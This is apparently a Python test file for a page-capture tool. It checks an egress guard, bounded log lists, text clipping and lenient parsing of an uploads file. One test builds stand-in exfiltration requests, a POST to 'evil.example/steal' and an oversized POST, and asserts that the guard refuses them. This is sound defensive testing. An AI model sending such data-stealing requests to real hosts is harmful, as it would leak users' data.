"""The capture's bounds: the egress guard counts and drops what it is offered, and the recorder's logs stop
growing at their limits, saying so."""

from __future__ import annotations

import json
import socket
from pathlib import Path

from tagprobe.capture.bounded import MAX_TEXT_CHARS, BoundedList, clip
from tagprobe.capture.clock import CaptureClock
from tagprobe.capture.egress import EgressGuard, target_host
from tagprobe.capture.uploads_file import read_uploads_leniently, write_uploads


def through_guard(guard: EgressGuard, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", guard.port), timeout=5) as connection:
        connection.sendall(request)
        return connection.recv(4096)


def test_the_guard_refuses_reads_and_drops_a_posted_body() -> None:
    with EgressGuard(CaptureClock()) as guard:
        body = b'{"e":["0.8.70",1]}'
        head = f"POST http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: {len(body)}\r\n\r\n"
        answer = through_guard(guard, head.encode() + body)
        through_guard(guard, b"CONNECT x.clarity.ms:443 HTTP/1.1\r\nHost: x.clarity.ms:443\r\n\r\n")
        huge = b"POST http://evil.example/big HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 50000000\r\n\r\nxx"
        through_guard(guard, huge)
        attempts = guard.attempts()
    assert answer.startswith(b"HTTP/1.1 403")
    assert [(attempt.method, attempt.body_bytes, attempt.answered_status) for attempt in attempts] == [
        ("POST", len(body), 403),
        ("CONNECT", 0, 403),
        ("POST", 50_000_000, 403),
    ]


def test_a_refused_host_is_known_by_name() -> None:
    assert target_host("shop.example.test:443") == "shop.example.test"
    assert target_host("http://Shop.Example.test/path?q=1") == "shop.example.test"
    assert target_host("[::1]:443") == "::1"


def test_a_bounded_list_keeps_the_first_items_and_says_how_many_it_left_out() -> None:
    log = BoundedList[int](3, "console messages")
    for number in range(10):
        log.append(number)
    assert log.items() == (0, 1, 2)
    assert log.note() == "7 more console messages were not kept: a capture keeps the first 3"
    assert BoundedList[int](3, "page errors").note() is None


def test_long_text_is_clipped_with_a_count_of_what_was_cut() -> None:
    text = "x" * (MAX_TEXT_CHARS + 10)
    assert clip(text) == "x" * MAX_TEXT_CHARS + "… (10 more characters not kept)"
    assert clip("short") == "short"


def test_stray_lines_in_uploads_jsonl_can_be_passed_over(tmp_path: Path) -> None:
    """A page can post anything to the collector; a reader that needs only the uploads keeps them all."""
    good = json.dumps({"e": ["0.8.70", 1, 0, 10, "p", "u", "s", 1, 0, 1, 0, "http://x/"], "a": []})
    path = tmp_path / "uploads.jsonl"
    write_uploads(path, [good, "not a payload at all", "[" * 5000 + "]" * 5000, good])
    read = read_uploads_leniently(path)
    assert [line.line_number for line in read.uploads] == [1, 4]
    assert [error.line_number for error in read.skipped] == [2, 3]
